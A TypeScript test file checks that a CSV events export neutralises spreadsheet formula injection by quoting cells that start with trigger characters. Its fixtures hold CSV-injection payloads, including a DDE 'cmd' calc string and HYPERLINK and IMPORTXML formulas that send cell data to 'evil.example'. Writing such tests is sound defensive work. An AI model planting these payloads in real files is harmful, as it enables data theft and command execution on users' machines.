import { describe, expect, it } from 'vitest';
import { applyProfile, parseProfile } from '../../src/catalog/profile.ts';
import { scomoCatalog } from '../../src/catalog/scomo-catalog.ts';
import { eventsToCsv, neutralizeCell } from '../../src/dataset/csv-export.ts';
import { parseCsv } from '../generator/csv-parse.ts';
import { ingestFiles } from '../support/ingest-text.ts';
import { totals } from '../support/reference-queries.ts';

/** Characters that make a spreadsheet read a cell as a formula (OWASP, CSV injection). */
const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];
const isFormula = (cell: string) => TRIGGERS.some((t) => cell.startsWith(t));

describe('neutralizeCell', () => {
  it('prefixes a quote to text that starts with = + - @ tab or carriage return, and to nothing else', () => {
    for (const t of TRIGGERS) expect(neutralizeCell(`${t}cmd|' /C calc'!A0`)).toBe(`'${t}cmd|' /C calc'!A0`);
    for (const safe of ['', 'Kestrel', ' =1', '1200', "it's", 'a=b', '日本', '\n=1']) {
      expect(neutralizeCell(safe)).toBe(safe);
    }
  });

  it('never maps two different values to the same cell (so a round trip keeps them apart)', () => {
    const values = ['=1', "'=1", "''=1", "'x", 'x', "'", '', '-', "'-"];
    const cells = values.map(neutralizeCell);
    expect(new Set(cells).size).toBe(values.length);
    expect(cells.filter(isFormula)).toEqual([]);
  });
});

describe('the events CSV export', () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1+cmd',
    '-2+3',
    '@SUM(A1:A9)',
    "'=already quoted",
    '<script>alert(1)</script>',
    'plain, with comma and "quotes"',
  ];
  // JSON keys are not trimmed, so header names can start with a tab or a carriage return too
  const records = hostile.map((value, i) => ({
    result_code: i === 0 ? -1 : i % 2 ? 1404 : 1200,
    timestamp: `2026-10-0${1 + (i % 3)}T08:00:00Z`,
    device_id: value,
    count: i + 1,
    model: value,
    '=cmd()': `v${i % 2}`,
    '\tTab header': 'a',
    '\rCR header': 'b',
    '@at header': 'c',
    '-minus header': 'd',
    '+plus header': 'e',
  }));

  it('neutralises every text cell — header names, devices, dimension values, code names — and quotes as RFC 4180', async () => {
    const parsed = parseProfile(
      JSON.stringify({
        name: 'acme',
        family: 'scomo',
        codes: [{ code: 1555, name: '=IMPORTXML("http://evil.example","//a")', outcome: 'failure' }],
      }),
    );
    if (!parsed.ok) throw new Error(parsed.message);
    const catalog = applyProfile(scomoCatalog, parsed.profile);
    const vendor = {
      result_code: 1555,
      timestamp: '2026-10-04T08:00:00Z',
      device_id: 'v',
      count: 1,
      model: 'm',
    };
    const { dataset } = await ingestFiles(
      { 'hostile.json': JSON.stringify([...records, vendor]) },
      { catalog },
    );
    const csv = eventsToCsv(dataset, dataset.sortedRows(dataset.all(), null));
    const [header, ...rows] = parseCsv(csv, ',').map((r) => r.fields);
    expect(header).toEqual([
      'time',
      'device',
      'result_code',
      'message',
      'category',
      'stage',
      'cause',
      'count',
      'model',
      "'=cmd()",
      "'\tTab header",
      "'\rCR header",
      "'@at header",
      "'-minus header",
      "'+plus header",
    ]);
    expect(rows).toHaveLength(hostile.length + 1);
    const column = (name: string) => rows.map((r) => r[(header as string[]).indexOf(name)] as string);
    const expected = [...hostile.map(neutralizeCell), expect.any(String)];
    expect(column('device')).toEqual(expected.slice(0, -1).concat('v'));
    expect(column('model')).toEqual(expected.slice(0, -1).concat('m'));
    expect(column('message').at(-1)).toBe('\'=IMPORTXML("http://evil.example","//a")');
    for (const row of [header, ...rows]) {
      for (const [k, cell] of (row as string[]).entries()) {
        // the only cells that may start with a trigger are the numbers we wrote: a code of -1
        if (isFormula(cell)) expect([header?.[k], cell]).toEqual(['result_code', '-1']);
      }
    }
  });

  it('keeps numbers numbers: codes (also -1), counts and ISO times are written as they are', async () => {
    const { dataset } = await ingestFiles({ 'hostile.json': JSON.stringify(records) });
    const csv = eventsToCsv(dataset, dataset.sortedRows(dataset.all(), null));
    const [header, ...rows] = parseCsv(csv, ',').map((r) => r.fields);
    const at = (name: string) => (header as string[]).indexOf(name);
    expect(rows.map((r) => r[at('result_code')])).toEqual([
      '-1',
      '1404',
      '1200',
      '1404',
      '1200',
      '1404',
      '1200',
    ]);
    expect(rows.map((r) => r[at('count')])).toEqual(['1', '2', '3', '4', '5', '6', '7']);
    expect(rows[0]?.[at('time')]).toBe('2026-10-01T08:00:00.000Z');
  });

  it('survives a round trip: the exported file reads back to the same figures, values kept apart', async () => {
    const { dataset } = await ingestFiles({ 'hostile.json': JSON.stringify(records) });
    const csv = eventsToCsv(dataset, dataset.sortedRows(dataset.all(), null));
    const again = await ingestFiles({ 'export.csv': csv });
    expect(totals(again.dataset)).toEqual(totals(dataset));
    const models = again.dataset.dimensionValues('model').filter((v) => v !== '');
    expect(models.sort()).toEqual(hostile.map(neutralizeCell).sort());
  });
});
